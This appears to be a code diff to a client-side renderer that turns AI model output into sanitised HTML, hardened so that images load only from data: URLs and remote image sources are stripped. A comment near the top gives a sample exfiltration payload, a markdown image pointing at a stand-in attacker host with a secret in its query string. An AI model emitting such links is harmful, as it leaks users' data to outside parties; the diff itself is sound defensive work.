@@ -1,11 +1,30 @@
 /**
  * Model text → safe HTML. marked renders, DOMPurify sanitises; nothing else in the client turns
  * model text into markup. Links open in a new tab without an opener.
+ *
+ * Model output is untrusted, and an image is a request the page makes by itself: a reply with
+ * `![x](https://attacker/?secret=…)` would make every tab that opens the thread fetch it. So an
+ * image is shown only from a `data:` URL; any other becomes a link the human may choose to follow.
  */
 import DOMPurify from 'dompurify'
 import { Marked } from 'marked'
 
-const marked = new Marked({ gfm: true, breaks: false, async: false })
+const marked = new Marked({
+  gfm: true,
+  breaks: false,
+  async: false,
+  renderer: {
+    image({ href, title, text }) {
+      if (isInline(href)) return false // marked's own rendering
+      const label = text ? `Image: ${text}` : 'Image'
+      return `<a href="${escapeAttr(href)}" class="remote-image"${title ? ` title="${escapeAttr(title)}"` : ''}>${escapeText(label)}</a>`
+    },
+  },
+})
+
+const isInline = (src: string) => /^data:image\//i.test(src.trim())
+const escapeText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
+const escapeAttr = (s: string) => escapeText(s).replace(/"/g, '&quot;')
 
 let hooked = false
 function purifier() {
@@ -14,6 +33,11 @@ function purifier() {
       if (node instanceof Element && node.tagName === 'A' && node.hasAttribute('href')) {
         node.setAttribute('target', '_blank')
         node.setAttribute('rel', 'noopener noreferrer')
+      }
+      // Raw HTML images too: without a remote source the browser has nothing to fetch.
+      if (node instanceof Element && node.tagName === 'IMG') {
+        if (!isInline(node.getAttribute('src') ?? '')) node.removeAttribute('src')
+        node.removeAttribute('srcset')
       }
     })
     hooked = true
@@ -25,7 +49,7 @@ export function renderMarkdown(text: string): string {
   const html = marked.parse(text) as string
   return purifier().sanitize(html, {
     USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe'],
+    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'picture', 'source', 'video', 'audio'],
     FORBID_ATTR: ['style'],
   })
 }
